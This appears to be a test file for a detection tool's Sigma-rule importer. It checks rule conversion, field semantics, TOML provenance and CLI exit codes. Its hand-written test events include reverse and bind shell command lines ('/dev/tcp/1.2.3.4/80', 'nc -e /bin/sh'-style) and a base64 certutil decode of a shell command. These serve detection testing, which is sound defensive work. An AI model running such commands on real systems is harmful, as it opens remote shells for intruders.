/** The Sigma importer over the fixtures in tests/sigma/ (written for bm in Sigma's format). */
import { deepEqual as assertEquals, ok as assert } from "node:assert/strict";
import { join } from "node:path";
import { importSigma } from "./importer.ts";
import { loadRules } from "../engine/rule_loader.ts";
import { ruleFires, runRuleTests } from "../engine/rule_tests.ts";
import type { CompiledRule } from "../engine/rule_set.ts";
import type { BmEvent } from "../sensor/event.ts";
import { runBm } from "../cli/run_bm_test_utils.ts";

function assertIncludes(text: string, part: string): void {
  assert(text.includes(part), `missing ${JSON.stringify(part)}`);
}

const FIXTURES = new URL("../../tests/sigma/fixtures/", import.meta.url).pathname;
const INVALID = new URL("../../tests/sigma/invalid/", import.meta.url).pathname;

/** `# expect: converted` or `# expect: skip: REASON` on each fixture's first line. */
async function expectations(): Promise<Map<string, string>> {
  const out = new Map<string, string>();
  for await (const e of Deno.readDir(FIXTURES)) {
    const first = (await Deno.readTextFile(join(FIXTURES, e.name))).split("\n")[0]!;
    const m = /^# expect: (.*)$/.exec(first);
    assert(m, `${e.name} has no "# expect:" line`);
    out.set(join(FIXTURES, e.name), m[1]!);
  }
  return out;
}

async function importFixtures() {
  const out = await Deno.makeTempDir({ prefix: "bm_sigma_" });
  const summary = await importSigma([FIXTURES], { out, minStatus: "test", actions: [] });
  const { rules, problems } = await loadRules(out, { requireRootOwned: false });
  return { out, summary, rules: rules.rules, problems };
}

Deno.test("import-sigma: each fixture converts or is skipped with its stated reason", async () => {
  const want = await expectations();
  const { summary, problems, out } = await importFixtures();
  try {
    assertEquals(problems, []);
    assertEquals(summary.errors, []);
    const got = new Map<string, string>();
    for (const c of summary.converted) got.set(c.file, "converted");
    for (const s of summary.skipped) got.set(s.file, `skip: ${s.reason}`);
    assertEquals(Object.fromEntries(got), Object.fromEntries(want));
  } finally {
    await Deno.remove(out, { recursive: true });
  }
});

Deno.test("import-sigma: the pack validates and every generated trace passes bm's rule tests", async () => {
  const { summary, rules, out } = await importFixtures();
  try {
    assertEquals(rules.length, summary.converted.length);
    assert(rules.length >= 12);
    const results = await runRuleTests(rules);
    assertEquals(results.filter((r) => !r.ok), []);
    assertEquals(results.length, rules.length * 2);
    const files = [...Deno.readDirSync(out)].map((e) => e.name).sort();
    assertEquals(files, [
      "linux_file_delete.toml",
      "linux_file_event.toml",
      "linux_file_rename.toml",
      "linux_process_creation.toml",
      "macos_file_event.toml",
      "macos_process_creation.toml",
      "tests",
    ]);
  } finally {
    await Deno.remove(out, { recursive: true });
  }
});

function ruleOf(rules: readonly CompiledRule[], n: number): CompiledRule {
  const id = `sigma.0f000001-0000-4000-8000-${String(n).padStart(12, "0")}`;
  const r = rules.find((x) => x.id === id);
  assert(r, `${id} not converted`);
  return r;
}

let pid = 5000;
function exec(over: {
  exe: string;
  cmd?: string;
  cwd?: string;
  uid?: number;
  parentExe?: string;
  parentCmd?: string;
}): BmEvent[] {
  const p = pid++;
  const parent = {
    pid: 4000,
    executable: over.parentExe ?? "/usr/bin/bash",
    name: (over.parentExe ?? "/usr/bin/bash").split("/").pop()!,
    args: [over.parentCmd ?? "bash"],
  };
  return [
    {
      "@timestamp": 1_000,
      event: { action: "exec" },
      process: { pid: 4000, executable: parent.executable, name: parent.name, args: parent.args },
    },
    {
      "@timestamp": 2_000,
      event: { action: "exec" },
      process: {
        pid: p,
        executable: over.exe,
        name: over.exe.split("/").pop()!,
        args: [over.cmd ?? over.exe],
        working_directory: over.cwd ?? "/home/u",
        parent,
      },
      user: { id: over.uid ?? 1000 },
    },
  ];
}

Deno.test("import-sigma: converted rules keep Sigma's semantics on hand-written events", async () => {
  const { rules, out } = await importFixtures();
  try {
    // Field mapping, case-insensitive by default, User: root as uid 0.
    const fields = ruleOf(rules, 1);
    const base = {
      exe: "/usr/bin/curl",
      cmd: "curl HTTP://x",
      cwd: "/tmp",
      uid: 0,
      parentExe: "/usr/bin/bash",
      parentCmd: "bash -c x",
    };
    assert(ruleFires(fields, exec(base)));
    assert(!ruleFires(fields, exec({ ...base, uid: 1000 })));
    assert(!ruleFires(fields, exec({ ...base, cwd: "/home" })));
    // cased, contains|all, wildcards, exists, null and empty.
    const forms = ruleOf(rules, 2);
    const ok = {
      exe: "/usr/local/bash",
      cmd: "BASH -o /dev/tcp/1.2.3.4/80",
      cwd: "/w",
      parentCmd: "sshd",
    };
    assert(ruleFires(forms, exec(ok)));
    assert(!ruleFires(forms, exec({ ...ok, cmd: "bash -o /dev/tcp/1.2.3.4/80" })), "cased");
    assert(!ruleFires(forms, exec({ ...ok, cmd: "BASH -o x" })), "all");
    assert(!ruleFires(forms, exec({ ...ok, exe: "/usr/local/bassh" })), "? is one char");
    assert(ruleFires(forms, exec({ ...ok, exe: "/usr/a/b/c/BAsh" })), "* spans /, case-insens");
    // windash alternatives and base64offset.
    const enc = ruleOf(rules, 3);
    const b64 = btoa("xx/bin/sh -c id");
    assert(ruleFires(enc, exec({ exe: "/usr/bin/x", cmd: `certutil /decode ${b64}` })));
    assert(ruleFires(enc, exec({ exe: "/usr/bin/x", cmd: `certutil \u2013decode ${b64}` })));
    assert(!ruleFires(enc, exec({ exe: "/usr/bin/x", cmd: `certutil +decode ${b64}` })));
    // conditions: (1 of img and all of cli) and not filter, or the second branch.
    const cond = ruleOf(rules, 5);
    assert(ruleFires(cond, exec({ exe: "/usr/bin/bmncat", cmd: "bmncat -e /bin/sh 1.2.3.4" })));
    assert(!ruleFires(cond, exec({ exe: "/usr/bin/bmncat", cmd: "bmncat -l -e /bin/sh" })));
    assert(ruleFires(cond, exec({ exe: "/usr/bin/bmnc", cmd: "bmnc -l -c /bin/sh" })));
    assert(!ruleFires(cond, exec({ exe: "/usr/bin/bmncat", cmd: "bmncat -l -c /bin/sh" })));
    // 1 of them: list of maps is OR; _unused is left out.
    const them = ruleOf(rules, 6);
    assert(ruleFires(them, exec({ exe: "/bin/zsh" })));
    assert(!ruleFires(them, exec({ exe: "/bin/bash", cmd: "bash" })));
    assert(!ruleFires(them, exec({ exe: "/x/never" })));
  } finally {
    await Deno.remove(out, { recursive: true });
  }
});

Deno.test("import-sigma: provenance, severity and report-only actions in the TOML", async () => {
  const { out } = await importFixtures();
  try {
    const text = await Deno.readTextFile(join(out, "linux_process_creation.toml"));
    assertIncludes(text, "# Sigma rule 0f000001-0000-4000-8000-000000000001: Fixture");
    assertIncludes(text, "# author: bm fixtures");
    assertIncludes(text, "# status: stable, level: high");
    assertIncludes(text, "# reference: https://example.org/bm/fixtures");
    assertIncludes(text, "# tags: attack.execution, attack.t1059.004");
    assertIncludes(text, "# license: Detection Rule License (DRL) 1.1");
    assertIncludes(text, `techniques = ["T1059.004"]`);
    assertIncludes(text, `tactics = ["TA0002"]`);
    assertIncludes(text, `severity = "critical"\nscore = 100`);
    assert(!/type = "(block|kill|quarantine)"/.test(text));
  } finally {
    await Deno.remove(out, { recursive: true });
  }
});

Deno.test("bm rules import-sigma: invalid YAML gives file:line:column and exit 2, the rest converts", async () => {
  const out = await Deno.makeTempDir({ prefix: "bm_sigma_cli_" });
  try {
    const r = await runBm([
      "rules",
      "import-sigma",
      FIXTURES,
      INVALID,
      "--out",
      out,
      "--actions",
      "block,kill",
      "--output",
      "json",
    ]);
    assertEquals(r.code, 2, r.stderr);
    assert(/bad_indent\.yml:\d+:\d+: \S/.test(r.stderr), r.stderr);
    const s = JSON.parse(r.stdout);
    assert(s.converted.length >= 12);
    assertEquals(s.errors.length, 1);
    assert(s.skipped_by_reason["logsource product windows"] === 1);
    const text = await Deno.readTextFile(join(out, "linux_process_creation.toml"));
    assertIncludes(text, `{ type = "block" }, { type = "kill" }`);
    const test = await runBm(["rules", "test", out]);
    assertEquals(test.code, 0, test.stdout + test.stderr);
  } finally {
    await Deno.remove(out, { recursive: true });
  }
});

Deno.test("bm rules import-sigma: bad usage exits 2", async () => {
  for (
    const args of [
      ["rules", "import-sigma", FIXTURES],
      ["rules", "import-sigma", "--out", "/tmp/x"],
      ["rules", "import-sigma", FIXTURES, "--out", "/tmp/x", "--min-status", "beta"],
      ["rules", "import-sigma", FIXTURES, "--out", "/tmp/x", "--actions", "nuke"],
    ]
  ) {
    const r = await runBm(args);
    assertEquals(r.code, 2, args.join(" "));
    assertEquals(r.stderr.trim().split("\n").length, 1);
  }
});
